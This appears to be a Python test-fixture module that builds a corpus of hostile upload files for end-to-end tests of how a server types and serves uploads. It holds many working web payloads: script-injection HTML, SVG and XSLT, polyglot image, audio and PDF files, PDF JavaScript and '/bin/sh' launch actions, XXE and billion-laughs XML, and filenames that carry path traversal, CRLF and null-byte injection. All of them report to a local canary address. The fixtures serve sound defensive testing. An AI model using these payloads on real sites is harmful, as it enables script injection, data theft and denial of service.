"""Files as an attacker would upload them, made here, so that none lies in the repository.

Each one tries to do something wherever it is opened as what it is: run a script, send a request, or reach what the
page beside it has. All of that ends at an address below `/pwned/`, with the file's number, here or at another server.
"""

import struct
import zlib
from base64 import b64encode
from dataclasses import dataclass
from enum import Enum

from e2e.library import archive, noise, packed_pdf, pdf, png, wav

PWNED = "/pwned/"


class As(Enum):
    """What a browser must take a file for, before it can do harm."""

    PAGE = "page"
    SCRIPT = "script"
    STYLE = "style"
    PLAYLIST = "playlist"
    PAPER = "paper"  # of which the viewer opens a box
    NOTHING = "nothing"  # no browser of today takes it, or none without a person who saves and opens it


@dataclass(frozen=True)
class Hostile:
    """A file, and the type that a careless server would give it.

    `works` says as what it does harm on a careless server, which the tests show too.
    """

    filename: str
    content: bytes
    careless_type: str
    works: As


class Corpus:
    """All of them, with `other` as the address that nothing may be sent to: `http://127.0.0.1:4567`."""

    def __init__(self, other: str) -> None:
        self.other = other
        self.files: list[Hostile] = []
        for add in (self._pages, self._markup, self._polyglots, self._code, self._documents, self._names):
            add()

    def _add(
        self, filename: str, content: str | bytes, careless_type: str, works: As = As.PAGE, encoding: str = "utf-8"
    ) -> None:
        mark = str(len(self.files))
        if isinstance(content, str):
            raw = content.replace("MARK", mark).encode(encoding)
        else:
            raw = content.replace(b"MARK", mark.encode())
        self.files.append(Hostile(filename, raw, careless_type, works))

    @property
    def address(self) -> str:
        """At the other server."""
        return f"{self.other}{PWNED}MARK"

    @property
    def script(self) -> str:
        """Asks both servers, and reaches for the pages around it; without quotes or signs that markup knows."""
        return (
            f"try{{self.ran=1;fetch(`{PWNED}MARK`);fetch(`{self.address}`,{{mode:`no-cors`}})}}catch(e){{}};"
            "try{parent.ran=1;top.ran=1;opener.ran=1}catch(e){}"
        )

    def _pages(self) -> None:
        tag = f"<script>{self.script}</script>"
        page, html = f"<!doctype html><title>x</title>{tag}", "text/html"
        error = f'<img src=x: onerror="{self.script}">'
        for name, content in {
            "page.html": page,
            "page.htm": f"<html><body>{error}",
            "page.txt": page,
            "page.pdf": page,
            "page.png": page,
            "page.mp4": page,
            "page": tag,
            "page.html.txt": f"\ufeff{page}",
            "page.shtml": f"\n\n\t <!-- {'long ' * 300} -->\n{page}",
            "page.hta": f"<body onload='{self.script}'>",
            "upper.htm": f"<SCRIPT>{self.script}</SCRIPT>",
            "unknown element.html": f'<x-a id=x tabindex=1 onfocus="{self.script}" autofocus>text</x-a>',
            "details.txt": f'<details open ontoggle="{self.script}">text</details>',
            "after text.txt": f"Dear reader, {tag}",
            "after many spaces.txt": " " * 5000 + page,
            "after many letters.html": "a" * 5000 + page,
            "srcdoc.html": f'<iframe srcdoc="{tag}"></iframe>',
            "script address.html": f'<iframe src="javascript:{self.script}"></iframe>',
            "refresh.html": f'<meta http-equiv="refresh" content="0;url={self.address}">',
            "form.html": f'<form action="{self.address}"></form><script>document.forms[0].submit()</script>',
            "picture from elsewhere.html": f'<img src="{self.address}"><p>no script',
            "style from elsewhere.html": f'<link rel=stylesheet href="{self.address}">',
            "frame from elsewhere.html": f'<iframe src="{self.address}"></iframe>',
            "object from elsewhere.html": f'<object data="{self.address}"></object>',
            "film from elsewhere.html": f'<video src="{self.address}" autoplay></video>',
            "base.html": f'<base href="{self.other}"><img src="{PWNED[1:]}MARK">',
            "import map.html": f'<script type=module>import "{self.address}"</script>',
            "frameset.htm": f'<frameset><frame src="{self.address}"></frameset>',
        }.items():
            self._add(name, content, html)
        self._add("utf-16 page.txt", page, html, encoding="utf-16")
        self._add(
            "utf-7 page.txt", f"+ADw-script+AD4-{self.script}+ADw-/script+AD4-", f"{html}; charset=utf-7", As.NOTHING
        )
        self._add("other letters.txt", b"\x1b(J<script>" + self.script.encode() + b"</script>", html)
        self._add(
            "refresh by data.html", f'<meta http-equiv=refresh content="0;url=data:text/html,{tag}">', html, As.NOTHING
        )
        self._add("worker page.html", f"{tag}<script>navigator.serviceWorker.register(location)</script>", html)
        self._add("latin page.txt", b"<!doctype html>\xe9\xe8" + tag.encode(), f"{html}; charset=latin-1")
        self._add("zeros.html", b"\0" * 20 + page.encode(), html)
        self._add("noise.html", noise(64) + page.encode(), html)

    def _markup(self) -> None:
        svg, xml, tag = "image/svg+xml", "text/xml", f"<script>{self.script}</script>"
        begin = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{tag}</body></html>'
        rule = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        for name, content in {
            "drawing.svg": f"{begin}>{tag}</svg>",
            "drawing.png": f"{begin} onload='{self.script}'/>",
            "drawing.txt": f"<?xml version='1.0'?>\n<!-- a drawing -->\n{begin}>{tag}</svg>",
            "drawing with a doctype.svg": f"<!DOCTYPE svg [<!ENTITY x '{tag}'>]>{begin}>{tag}</svg>",
            "animated.svg": f'{begin}><animate onbegin="{self.script}" attributeName="x" dur="1s"/></svg>',
            "foreign.svg": f"{begin}><foreignObject width='9' height='9'>{xhtml}</foreignObject></svg>",
            "picture within.svg": f"{begin}><image width='9' height='9' href='{self.address}'/></svg>",
            "style within.svg": f"{begin}><style>@import '{self.address}';</style></svg>",
            "prefixed.svg": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{self.script}</s:script></s:svg>',
        }.items():
            self._add(name, content, svg)
        self._add("utf-16 drawing.svg", f"<?xml version='1.0'?>{begin}>{tag}</svg>", svg, encoding="utf-16")
        self._add("packed drawing.svgz", zlib.compress(f"{begin}>{tag}</svg>".encode(), wbits=31), svg, As.NOTHING)
        for name, content in {
            "page.xhtml": xhtml,
            "data.xml": f"<?xml version='1.0'?><data>{xhtml}</data>",
            "data.txt": f"<?xml version='1.0'?><?x?><a:b xmlns:a='http://www.w3.org/1999/xhtml'><a:script>{self.script}"
            "</a:script></a:b>",
            "styled.xml": f"<?xml version='1.0'?><?xml-stylesheet type='text/css' href='{self.address}'?><data/>",
            "feed.rss": f"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title>{xhtml}</channel></rss>",
            "feed.atom": f"<feed xmlns='http://www.w3.org/2005/Atom'><title type='xhtml'>{xhtml}</title></feed>",
            "formula.mml": f"<math xmlns='http://www.w3.org/1998/Math/MathML'><mtext>{xhtml}</mtext></math>",
        }.items():
            self._add(name, content, xml)
        transformed = f"{rule}<xsl:template match='/'>{xhtml}</xsl:template></xsl:stylesheet>"
        link = "data:text/xsl;base64," + b64encode(transformed.encode()).decode()
        for name, content in {
            "transformed.xml": f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{link}'?><data/>",
            "transforms itself.xml": "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?>"
            f"<data>{transformed.replace('<xsl:stylesheet', '<xsl:stylesheet id=`s`'.replace('`', chr(39)), 1)}</data>",
            "entity.xml": f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM '{self.address}'>]><a>&e;</a>",
            "billion laughs.xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'ha'>"
            + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(12))
            + "]><a>&m;</a>",
        }.items():
            self._add(name, content, xml, As.NOTHING)

    def _polyglots(self) -> None:
        tag, html = f"<script>{self.script}</script>".encode(), "text/html"
        comment = b"\xff\xd8\xff\xfe" + struct.pack(">H", len(tag) + 2) + tag
        bomb = f"*/=1;{self.script}//".encode()
        self._add("picture and page.png", png(colour=(0, 0, 0)) + b"-->" + tag, html)
        self._add("page in a text chunk.png", _with_text(png(), tag), html)
        self._add("picture and page.jpg", comment + b"\xff\xdb\0\x43\0" + b"\x10" * 64 + b"\xff\xd9", html)
        self._add("picture and page.gif", b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xfe" + bytes([9]) + tag, html)
        self._add("picture and script.gif", b"GIF89a/*" + b"\0" * 9 + bomb, "text/javascript", As.SCRIPT)
        self._add("picture and script.bmp", b"BM/*" + struct.pack("<I", 0) * 12 + bomb, "text/javascript", As.SCRIPT)
        self._add("sound and script.wav", b"RIFF/*" + wav()[6:100] + bomb, "text/javascript", As.SCRIPT)
        self._add("document and page.pdf", b"%PDF-1.4\n" + tag + pdf()[9:], html)
        self._add("page and document.pdf", tag + pdf(), html)
        self._add("archive and page.zip", tag + archive(a="text"), html)
        self._add("archive and page.docx", archive(a="text") + tag, html)
        self._add("sound and page.mp3", b"ID3\4\0\0\0\0\0\0" + tag, html)
        self._add("film and page.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + tag, html)
        self._add("film and page.webm", b"\x1a\x45\xdf\xa3\x84webm" + tag, html)
        self._add("picture and page.webp", b"RIFF" + struct.pack("<I", 999) + b"WEBPVP8 " + tag, html)
        self._add("font and page.ttf", b"\x00\x01\x00\x00\x00" + tag, html)

    def _code(self) -> None:
        script, style = "text/javascript", "text/css"
        rules = f"@import '{self.address}'; body {{ background: url('{self.address}') }}"
        for name in ("code.js", "code.mjs", "code.txt", "code", "code.png", "code.css"):
            self._add(name, self.script, script, As.SCRIPT)
        self._add("worker.js", f"onmessage = onfetch = null; {self.script}", script, As.SCRIPT)
        self._add("worker with imports.js", f"importScripts('{self.address}')", script, As.NOTHING)
        self._add("data.json", f"0;{self.script}", script, As.SCRIPT)
        self._add("data.csv", f"a=1\n{self.script}", script, As.SCRIPT)
        self._add("utf-16 code.txt", self.script, script, As.SCRIPT, encoding="utf-16")
        for name in ("style.css", "style.txt", "style.jpg"):
            self._add(name, rules, style, As.STYLE)
        self._add("style in lines.csv", f"a,b\n{{}} {rules.partition(';')[2]}", style, As.STYLE)
        self._add(
            "style.htc",
            f"<public:component><script>{self.script}</script></public:component>",
            "text/x-component",
            As.NOTHING,
        )
        self._add("module.wasm", b"\0asm\1\0\0\0", "application/wasm", As.NOTHING)
        self._add("app.webmanifest", '{"start_url": "/", "scope": "/", "name": "x"}', "application/json", As.NOTHING)
        self._add(
            "rules.json", '{"prerender": [{"urls": ["/pwned/MARK"]}]}', "application/speculationrules+json", As.NOTHING
        )
        self._add(
            "crossdomain.xml",
            '<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>',
            "text/xml",
            As.NOTHING,
        )
        self._add(
            "list.m3u8",
            f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{self.address}\n",
            "application/vnd.apple.mpegurl",
            As.PLAYLIST,
        )
        self._add(
            "list.m3u",
            f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{self.address}"\n#EXTINF:1,\nx.ts\n',
            "audio/x-mpegurl",
            As.NOTHING,
        )
        self._add(
            "captions.vtt", "WEBVTT\n\n00:00.000 --> 00:09.000\n<b onclick=x>&lt;script&gt;</b>", "text/vtt", As.NOTHING
        )

    def _documents(self) -> None:
        tag = f"<script>{self.script}</script>"
        script = "app.alert('MARK'); " + f"this.submitForm('{self.address}'); app.launchURL('{self.address}')"
        run = f"/JS ({_escaped(script)})"
        for name, action in {
            "link.pdf": f"<< /S /URI /URI ({self.address}) >>",
            "form.pdf": f"<< /S /SubmitForm /F << /FS /URL /F ({self.address}) >> /Fields [] >>",
            "program.pdf": "<< /S /Launch /F (/bin/sh) >>",
            "another document.pdf": f"<< /S /GoToR /F << /FS /URL /F ({self.address}) >> /D [0 /Fit] >>",
            "script address.pdf": f"<< /S /URI /URI (javascript:{_escaped(self.script)}) >>",
        }.items():
            self._add(name, _with_action(pdf(), action), "application/pdf", As.NOTHING)
        for name, paper in {
            "script.pdf": _with_action(pdf(), f"<< /S /JavaScript {run} >>"),
            "script spelled otherwise.pdf": _with_action(pdf(), f"<< /S /J#61vaScript {run} >>"),
            "script of a field.pdf": _with_field(pdf(), f"<< {run} >>"),
            "script of a field that goes elsewhere.pdf": _with_field(pdf(), f"<< /S /GoTo {run} >>"),
            **{
                f"packed script{how}.pdf": packed_pdf(f"<< /S /JavaScript {run} >>", described)
                for how, described in {
                    "": b"/Type /ObjStm /Filter /FlateDecode",
                    " behind a comment": b"/Filter /FlateDecode %<<\n/Type /ObjStm",
                    " behind an object in a comment": b"/Filter /FlateDecode %7 0 obj <<\n/Type /ObjStm",
                    " behind an object that is read over": b"/Filter /FlateDecode /X 7 0 obj << /Type /ObjStm",
                    " behind an end that is read over": b"/Filter /FlateDecode /X endobj 7 0 obj << /Type /ObjStm",
                    " between odd blanks": b"/Filter\x80/FlateDecode\xff/Type\x80/ObjStm",
                    " in depth": b"/Filter /FlateDecode /X << /Y (>> stream) >> /Type /ObjStm",
                }.items()
            },
        }.items():
            self._add(name, paper, "application/pdf", As.PAPER)
        mhtml = (
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
            f"--b\r\nContent-Type: text/html\r\n\r\n{tag}\r\n--b--\r\n"
        )
        self._add("saved.mhtml", mhtml, "multipart/related", As.NOTHING)
        self._add("letter.eml", mhtml, "message/rfc822", As.NOTHING)
        self._add(
            "stream.txt",
            f"--b\r\nContent-Type: text/html\r\n\r\n{tag}\r\n--b--",
            "multipart/x-mixed-replace; boundary=b",
            As.NOTHING,
        )
        self._add("shortcut.url", f"[InternetShortcut]\r\nURL={self.address}\r\n", "text/plain", As.NOTHING)
        self._add("exchange.sxg", b"sxg1-b3\0" + noise(99), "application/signed-exchange;v=b3", As.NOTHING)

    def _names(self) -> None:
        tag = "<script>self.ran=1</script>"
        for name in (
            "<img src=x onerror=self.ran=1>.txt",
            "<svg onload=self.ran=1>.html",
            '"><script>self.ran=1</script>.txt',
            "'-self.ran=1-'.txt",
            "`${self.ran=1}`.txt",
            "{{self.ran=1}}.txt",
            "javascript:self.ran=1",
            "\u202etxt.lmth",
            "page\u2066.html\u2069.txt",
            "page.html\x00.txt",
            "page.txt\r\nContent-Type: text/html\r\n\r\nx",
            "x\x1b]0;title\x07\x1b[31m.txt",
            "x; filename=page.html",
            "page.html%00.txt",
            "%0d%0aContent-Type:%20text/html.txt",
            "../../static/app/index.html",
            "..\\..\\index.html",
            "C:\\autorun.inf",
            ".htaccess",
            "CON.html",
            "\u200b\u200d.html",
            "W" * 300 + ".html",
        ):
            self._add(name, f"<!doctype html>{tag}<script>{self.script}</script>", "text/html")


def _with_text(picture: bytes, text: bytes) -> bytes:
    """The same PNG, with a text chunk behind its head."""
    head = 8 + 25
    body = b"tEXt" + b"Comment\0" + text
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    return picture[:head] + chunk + picture[head:]


def _with_action(document: bytes, action: str) -> bytes:
    """The same PDF, which does something when it is opened. Its places are those of before: viewers mend that."""
    return document.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction " + action.encode(), 1)


def _with_field(document: bytes, action: str) -> bytes:
    """The same PDF, which shows a field and does something before."""
    field = f"""5 0 obj << /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [9 9 99 50] /F 4
        /DA (/Helv 12 Tf 0 g) /AA << /F {action} >> >> endobj\n""".encode()
    shown = document.replace(b"/Type /Catalog", b"/Type /Catalog /AcroForm << /Fields [5 0 R] >>", 1)
    shown = shown.replace(b"/Type /Page ", b"/Type /Page /Annots [5 0 R] ", 1)
    return shown.replace(b"xref\n0 5", field + b"xref\n0 5", 1)


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
